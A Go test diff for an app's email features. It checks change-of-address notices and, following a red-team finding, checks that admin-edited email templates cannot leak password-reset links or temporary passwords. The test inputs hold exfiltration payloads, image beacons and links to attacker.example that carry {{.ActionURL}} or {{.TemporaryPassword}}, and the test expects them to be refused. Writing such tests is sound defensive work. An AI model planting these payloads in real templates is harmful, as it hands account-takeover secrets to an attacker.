@@ -223,4 +223,49 @@ func TestChangingAnActiveAddress(t *testing.T) {
 	resp = s.Query(t, a.tok, update, map[string]any{"id": fmt.Sprint(people[1].ID), "email": "ada@new.test"})
 	require.Empty(t, resp.Errors)
 	require.Equal(t, http.StatusUnauthorized, s.Query(t, ada, `{ viewer { email } }`, nil).Status)
+	notice := s.LastEmailTo(t, "ada@acme.test")
+	require.Equal(t, "Your acme email address was changed", notice.Subject)
+	require.Contains(t, notice.Text, "ada@new.test")
+	require.Empty(t, notice.Links(), "no link to act on")
+	require.Empty(t, s.EmailsTo(t, "newer@acme.test"), "people without an account get no notice")
+}
+
+// The red team's takeover: an Admin may not put a person's link or password
+// where it leaves their email, and a template saved before these rules is
+// replaced by the default rather than sent.
+func TestTemplatesCannotMoveSecrets(t *testing.T) {
+	t.Parallel()
+	a := newAdmin(t)
+	s := a.s
+	s.AddPeople(t, a.org, testkit.Person{Email: "admin@acme.test", Role: "Admin", Status: user.StatusActive, Password: "admin-password-12"})
+	admin := s.Login(t, "acme", "admin@acme.test", "admin-password-12")
+	update := `mutation($in: UpdateEmailTemplateInput!) { updateEmailTemplate(input: $in) { id } }`
+	for _, c := range []struct{ kind, field, subject, html, text string }{
+		{"PASSWORD_RESET", "html", "Reset", `<img src="https://attacker.example/p.gif?u={{.ActionURL}}">`, "{{.ActionURL}}"},
+		{"PASSWORD_RESET", "html", "Reset", `<a href="https://attacker.example/?u={{.ActionURL}}">go</a>`, "{{.ActionURL}}"},
+		{"PASSWORD_RESET", "text", "Reset", `<a href="{{.ActionURL}}">go</a>`, "https://attacker.example/?u={{.ActionURL}}"},
+		{"PASSWORD_RESET", "subject", "Reset {{.ActionURL}}", `<a href="{{.ActionURL}}">go</a>`, "{{.ActionURL}}"},
+		{"TEMPORARY_PASSWORD", "html", "Welcome", `<img src="https://attacker.example/p.gif?p={{.TemporaryPassword}}">`, "{{.TemporaryPassword}}"},
+		{"INVITATION", "html", "Join", `{{if and .FirstName (not .LastName)}}{{eq 1 "a"}}{{end}}<a href="{{.ActionURL}}">join</a>`, "{{.ActionURL}}"},
+	} {
+		resp := s.Query(t, admin, update, map[string]any{"in": map[string]any{"kind": c.kind, "roleId": a.roleID("Owner"),
+			"subject": c.subject, "html": c.html, "text": c.text}})
+		require.Equal(t, "BAD_USER_INPUT", resp.Code(), "%+v", c)
+		require.Equal(t, c.field, resp.Errors[0].Extensions["field"], "%+v", c)
+	}
+	n, err := s.DB.Client.EmailTemplate.Query().Count(testkit.System())
+	require.NoError(t, err)
+	require.Zero(t, n, "nothing saved")
+
+	// A template stored before the rules (written past the API here) is
+	// not sent: the default goes instead.
+	require.NoError(t, s.DB.Client.EmailTemplate.Create().SetOrganizationID(a.org.ID).SetKind("PASSWORD_RESET").
+		SetSubject("Reset").SetHTML(`<img src="https://attacker.example/p.gif?u={{.ActionURL}}">`).SetText("{{.ActionURL}}").
+		SetCreatedAt(s.Clock.Now()).SetUpdatedAt(s.Clock.Now()).Exec(testkit.System()))
+	resp := s.Query(t, "", `mutation { requestPasswordReset(input: {organization: "acme", email: "owner@acme.test"}) }`, nil)
+	require.Empty(t, resp.Errors)
+	s.App.Invites.Wait()
+	reset := s.LastEmailTo(t, "owner@acme.test")
+	require.NotContains(t, reset.HTML, "attacker.example")
+	require.Contains(t, reset.Links()[0], "/password/reset?token=")
 }
